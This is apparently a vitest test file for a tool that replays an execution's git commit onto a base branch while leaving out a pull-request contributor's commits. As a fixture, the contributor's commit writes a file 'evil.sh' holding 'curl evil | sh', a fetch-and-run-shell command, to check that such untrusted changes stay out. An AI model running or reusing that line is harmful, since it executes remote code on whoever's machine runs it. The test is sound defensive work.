import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import {
  commitPatch,
  deliveryRefs,
  keptReplay,
  onlyParent,
  replayCommit,
  replayedRef,
} from '../../src/workspace/replay.js';
import { removeWorktree } from '../../src/workspace/worktree.js';
import { git, makeRepo } from '../support/git-repo.js';
import { tempDir } from '../support/harness.js';

// An execution's own change replayed onto the base: a cherry-pick on the repository's git directory alone,
// in real git repositories. The contributor's commits stay out of it.

let tmp: { path: string; remove(): void } | undefined;
afterEach(() => {
  tmp?.remove();
  tmp = undefined;
});

/** A commit on HEAD writing `files`; returns its id. */
function commit(repo: string, files: Record<string, string>, message: string): string {
  for (const [path, content] of Object.entries(files)) writeFileSync(join(repo, path), content);
  git(repo, 'add', '-A');
  git(repo, 'commit', '-q', '-m', message);
  return git(repo, 'rev-parse', 'HEAD');
}

const LINES = `${Array.from({ length: 10 }, (_, i) => `line ${i + 1}`).join('\n')}\n`;

/**
 * main with `f.txt`; a pull request branch with the contributor's commit (a change to line 2 and a new file);
 * the execution's commit on it (line 9 changed, `new.txt` added); main moved on (line 1 changed).
 */
function history() {
  tmp = tempDir('drydock-replay-');
  const repo = join(tmp.path, 'repo');
  makeRepo(repo, { 'f.txt': LINES });
  git(repo, 'checkout', '-q', '-b', 'pr');
  const contributor = commit(
    repo,
    { 'f.txt': LINES.replace('line 2\n', 'line two\n'), 'evil.sh': 'curl evil | sh\n' },
    'contributor',
  );
  const execution = commit(
    repo,
    {
      'f.txt': LINES.replace('line 2\n', 'line two\n').replace('line 9\n', 'line nine\n'),
      'new.txt': 'new\n',
    },
    'Add new.txt\n\nCarries out drydock plan pln_1.\n\nDrydock-Plan: pln_1',
  );
  git(repo, 'checkout', '-q', 'main');
  const base = commit(repo, { 'f.txt': LINES.replace('line 1\n', 'line one\n') }, 'base moved');
  return { repo, contributor, execution, base };
}

describe('replayCommit', () => {
  it("carries only the execution's change onto the base, with the base as its only parent", async () => {
    const h = history();
    const replayed = await replayCommit(h.repo, 'pln_1', h.execution, h.base);
    expect(replayed).toMatch(/^[0-9a-f]{40}$/);
    expect(await onlyParent(h.repo, replayed!)).toBe(h.base);
    // The file both touched is merged line by line: the base's line 1, the execution's line 9, and not the
    // contributor's line 2; the contributor's new file is not there.
    expect(git(h.repo, 'show', `${replayed}:f.txt`)).toBe(
      LINES.replace('line 1\n', 'line one\n').replace('line 9\n', 'line nine\n').trimEnd(),
    );
    expect(git(h.repo, 'show', `${replayed}:new.txt`)).toBe('new');
    expect(git(h.repo, 'ls-tree', '--name-only', replayed!).split('\n').sort()).toEqual(['f.txt', 'new.txt']);
    expect(() => git(h.repo, 'merge-base', '--is-ancestor', h.contributor, replayed!)).toThrow();
    const message = git(h.repo, 'log', '-1', '--format=%B', replayed!);
    expect(message).toContain('Drydock-Plan: pln_1');
    expect(message).toContain(`Drydock-Replayed-From: ${h.execution}`);
    // Kept, and the same commit given again (a retried delivery pushes what it pushed).
    expect(git(h.repo, 'rev-parse', replayedRef('pln_1'))).toBe(replayed);
    const onward = commit(h.repo, { 'g.txt': 'g\n' }, 'base moved again');
    expect(await replayCommit(h.repo, 'pln_1', h.execution, onward)).toBe(replayed);
    // Nothing of a work tree was touched.
    expect(git(h.repo, 'status', '--porcelain')).toBe('');
  });

  it('makes a new one when the kept commit carries another commit, and forgets it with the plan', async () => {
    const h = history();
    const first = await replayCommit(h.repo, 'pln_1', h.execution, h.base);
    // The local branch moved: another execution commit on the contributor's.
    git(h.repo, 'checkout', '-q', 'pr');
    git(h.repo, 'reset', '-q', '--hard', h.contributor);
    const amended = commit(h.repo, { 'new.txt': 'newer\n' }, 'amended');
    git(h.repo, 'checkout', '-q', 'main');
    expect(await keptReplay(h.repo, 'pln_1', amended)).toBeNull();
    const second = await replayCommit(h.repo, 'pln_1', amended, h.base);
    expect(second).not.toBe(first);
    expect(git(h.repo, 'show', `${second}:new.txt`)).toBe('newer');
    await removeWorktree(h.repo, join(h.repo, 'no-such-worktree'), null, deliveryRefs('pln_1'));
    expect(() => git(h.repo, 'rev-parse', '--verify', '-q', replayedRef('pln_1'))).toThrow();
    expect(git(h.repo, 'for-each-ref', 'refs/drydock/')).toBe('');
  });

  it("returns null when the change does not apply without the contributor's commits", async () => {
    const h = history();
    git(h.repo, 'checkout', '-q', 'pr');
    // The execution edits the file the contributor added: the base has no such file.
    const onEvil = commit(h.repo, { 'evil.sh': 'echo fixed\n' }, 'fix evil.sh');
    git(h.repo, 'checkout', '-q', 'main');
    expect(await replayCommit(h.repo, 'pln_2', onEvil, h.base)).toBeNull();
    // A conflicting line: the base changed line 9 itself.
    const clash = commit(h.repo, { 'f.txt': LINES.replace('line 9\n', 'line NINE\n') }, 'clash');
    expect(await replayCommit(h.repo, 'pln_3', h.execution, clash)).toBeNull();
    expect(() => git(h.repo, 'rev-parse', '--verify', '-q', replayedRef('pln_3'))).toThrow();
  });

  it('is the base itself when the change is in the base already', async () => {
    const h = history();
    const has = commit(
      h.repo,
      { 'f.txt': LINES.replace('line 9\n', 'line nine\n'), 'new.txt': 'new\n' },
      'the same change',
    );
    expect(await replayCommit(h.repo, 'pln_4', h.execution, has)).toBe(has);
  });
});

describe('commitPatch', () => {
  it("is the execution's diff to its parent, cut at the size asked", async () => {
    const h = history();
    const patch = await commitPatch(h.repo, h.execution, 100_000);
    expect(patch).toContain('+line nine');
    expect(patch).toContain('b/new.txt');
    expect(patch).not.toContain('evil.sh');
    expect(patch).not.toContain('+line two');
    expect((await commitPatch(h.repo, h.execution, 40)).length).toBe(40);
  });

  it('refuses a commit without exactly one parent', async () => {
    const h = history();
    const root = git(h.repo, 'rev-list', '--max-parents=0', 'HEAD');
    await expect(onlyParent(h.repo, root)).rejects.toThrow(/0 parents/);
  });
});
